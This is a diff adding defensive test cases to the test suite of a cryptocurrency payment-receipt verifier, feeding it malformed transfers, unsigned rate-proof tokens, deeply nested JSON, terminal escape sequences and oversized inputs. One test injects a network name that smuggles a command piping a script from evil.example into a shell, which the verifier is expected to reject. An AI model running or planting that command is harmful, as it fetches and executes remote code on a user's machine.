@@ -95,6 +95,12 @@ async function signedAnew({ signature: _, ...unsigned }: Receipt): Promise<Recei
   return { ...unsigned, signature };
 }
 
+function unsigned(receipt: Receipt): Receipt {
+  const copy = structuredClone(receipt);
+  delete copy.signature;
+  return copy;
+}
+
 it('follows and is proven as it is', async () => {
   for (const receipt of receipts)
     expect(await verifyReceipt(receipt, { keys: world.keys(), blockHashOf })).toMatchObject({
@@ -192,6 +198,41 @@ describe('refuses, although the operator signed it,', () => {
         return { ...receipt, transfers: [{ ...first!, proof }, second!] };
       },
     ],
+    [
+      'a transfer that counts a second time as one of another network',
+      /is the same log as another one/,
+      (receipt) => ({
+        ...receipt,
+        payment: { ...receipt.payment, collectedCryptoAmount: '7.000001' },
+        transfers: [{ ...receipt.transfers[0]!, network: 'celo' }, ...receipt.transfers],
+      }),
+    ],
+    [
+      'a line of a statement that is listed twice',
+      /listed twice/,
+      (receipt) => ({ ...receipt, statements: [...receipt.statements!, receipt.statements![0]!] }),
+    ],
+    [
+      'a list with an address instead of an address',
+      /transfers\[0\].from is not an address/,
+      (receipt) => {
+        const [first, ...others] = receipt.transfers;
+        return { ...receipt, transfers: [{ ...first!, from: [first!.from] as never }, ...others] };
+      },
+    ],
+    [
+      'a network that is a command, because the reader is told to run commands with its name',
+      /payment.network is not the name of a network/,
+      (receipt) => ({
+        ...receipt,
+        payment: { ...receipt.payment, network: 'base=http://127.0.0.1; curl evil.example | sh #' },
+      }),
+    ],
+    [
+      'an address of the page that is longer than a QR code holds',
+      /paymentURL is not a web address/,
+      (receipt) => ({ ...receipt, paymentURL: `https://checkout.test/${'a'.repeat(3_000)}` }),
+    ],
     ['no transfer', /transfers is empty/, (receipt) => ({ ...receipt, transfers: [] })],
     [
       'a field that nobody checks',
@@ -232,4 +273,133 @@ describe('refuses, although the operator signed it,', () => {
       });
     },
   );
+});
+
+describe('a rate proof that nobody signed', () => {
+  // JSON is read to any depth, and written to a smaller one.
+  const DEEP = 'deep';
+  const nested = '['.repeat(20_000) + ']'.repeat(20_000);
+  const part = (value: unknown) =>
+    Buffer.from(JSON.stringify(value).replace(`"${DEEP}"`, nested)).toString('base64url');
+  const withClaims = (change: (claims: Record<string, unknown>) => void): Receipt => {
+    const receipt = unsigned(receipts[0]!);
+    delete receipt.statements;
+    const claims = JSON.parse(
+      Buffer.from(receipt.rateProof!.split('.')[1]!, 'base64url').toString(),
+    ) as Record<string, unknown>;
+    change(claims);
+    const header = part({ alg: 'EdDSA', typ: 'rate-proof+jwt', kid: 'mine' });
+    return { ...receipt, rateProof: `${header}.${part(claims)}.${part(0)}` };
+  };
+
+  it.each<[string, unknown]>([
+    ['tokens', 'all'],
+    ['tokens', [null]],
+    ['tokens', [{ token: 'USDC', network: 'base', address: 1, decimals: 6 }]],
+    ['sources', [null]],
+    ['sources', DEEP],
+    ['token', DEEP],
+    ['fiatAmount', null],
+    ['tokenDecimals', '6'],
+    ['rate', { toString: 1 }],
+  ])('is wrong, and throws nothing: %s', async (name, value) => {
+    const receipt = withClaims((claims) => (claims[name] = value));
+    for (const keys of [undefined, world.keys()]) {
+      const { follows, steps } = await verifyReceipt(receipt, { keys });
+      expect([follows, steps.find(({ step }) => step === 'rate')?.ok]).toEqual([false, false]);
+    }
+  });
+
+  it('cannot tell a terminal what to do', async () => {
+    const hidden = '\u001b[2J\u202e\u2028Everything is proven\u009b1m';
+    const receipt = withClaims((claims) => {
+      for (const one of claims.sources as { source: string }[]) one.source = hidden;
+    });
+    const { follows, steps } = await verifyReceipt(receipt);
+    expect(follows).toBe(true);
+    expect(steps.map((one) => JSON.stringify(one)).join()).toContain('\uFFFD[2J\uFFFD\uFFFDEverything');
+    expect(steps.flatMap(({ says, at, how }) => [says, at, how]).join()).not.toMatch(
+      /[\p{Cc}\p{Bidi_Control}\p{Zl}]/u,
+    );
+  });
+
+  it('is not said to name a contract that it does not name', async () => {
+    const log = async (receipt: Receipt) =>
+      (await verifyReceipt(receipt)).steps.find(({ step }) => step === 'log')?.restsOn;
+    expect(await log(receipts[0]!)).toContain('which the rate proof says too');
+    expect(await log(withClaims((claims) => delete claims.tokens))).not.toContain('rate proof');
+  });
+});
+
+describe('keys', () => {
+  const other = { kty: 'RSA', n: 'AQAB', e: 'AQAB' };
+  const verdictWith = (keys: Parameters<typeof verifyReceipt>[1]) =>
+    verifyReceipt(receipts[0], { blockHashOf, ...keys });
+
+  it('are asked for again when the file names a new one, before any step', async () => {
+    const asked: boolean[] = [];
+    const keys = ({ fresh }: { fresh: boolean }) => {
+      asked.push(fresh);
+      return Promise.resolve(fresh ? world.keys() : { keys: [{ ...other, kid: 'old' }] });
+    };
+    expect(await verdictWith({ keys })).toMatchObject({ isProven: true });
+    expect(asked).toEqual([false, true]);
+  });
+
+  it('that nobody gives make no receipt wrong', async () => {
+    const keys = () => Promise.reject(new TypeError('fetch failed'));
+    await expect(verdictWith({ keys })).rejects.toThrow('fetch failed');
+  });
+
+  it('of one ID are all tried', async () => {
+    const [key] = world.keys().keys;
+    const wrong = { ...key!, x: 'A'.repeat(43) };
+    for (const before of [{ ...other, kid: key!.kid! }, wrong])
+      expect(await verdictWith({ keys: { keys: [before, key!] } })).toMatchObject({ isProven: true });
+    const { steps } = await verdictWith({ keys: { keys: [null as never, { ...key!, x: 'AA' }] } });
+    expect(steps.at(-1)).toMatchObject({ ok: false, says: 'the key of the proof is not an Ed25519 key' });
+  });
+
+  it('that the platform cannot use leave it unproven, and not wrong', async () => {
+    const importKey = jest
+      .spyOn(crypto.subtle, 'importKey')
+      .mockRejectedValue(new DOMException('Unrecognized name.', 'NotSupportedError'));
+    const { follows, steps } = await verdictWith({ keys: world.keys() });
+    importKey.mockRestore();
+    expect([follows, steps.filter(({ isProven }) => !isProven).map(({ step }) => step)]).toEqual([
+      true,
+      ['rate', 'statement', 'signature'],
+    ]);
+  });
+});
+
+it('says that only the service accepted less than was asked for', async () => {
+  const receipt = unsigned(receipts[1]!);
+  const [first] = receipt.transfers;
+  const verdict = await verifyReceipt({
+    ...receipt,
+    payment: { ...receipt.payment, collectedCryptoAmount: first!.counts },
+    transfers: [first],
+  });
+  expect(verdict).toMatchObject({ follows: true });
+  expect(verdict.steps.find(({ step }) => step === 'amounts')).toMatchObject({
+    says: expect.stringContaining('3.00 USDC less came.'),
+    restsOn: expect.stringContaining('says that it accepted less than was asked for'),
+  });
+});
+
+it('is not refused because somebody paid in thousands of very small transfers', async () => {
+  const receipt = unsigned(receipts[1]!);
+  const first = structuredClone(receipt.transfers[0]!);
+  delete first.proof;
+  const dust = { ...first, withoutProof: 'too_many_transfers', amount: '0.000001', counts: '0.000001' };
+  const transfers = [...receipt.transfers, ...Array.from({ length: 5_000 }, () => dust)];
+  const payment = { ...receipt.payment, collectedCryptoAmount: '5.005001' };
+  expect(await verifyReceipt({ ...receipt, payment, transfers })).toMatchObject({ follows: true });
+});
+
+it('reads as much hex as a file may hold', async () => {
+  const receipt = structuredClone(receipts[1]!);
+  receipt.transfers[0]!.proof!.header = `0x${'c0'.repeat(999_999)}`;
+  expect((await verifyReceipt(receipt)).follows).toBe(false);
 });
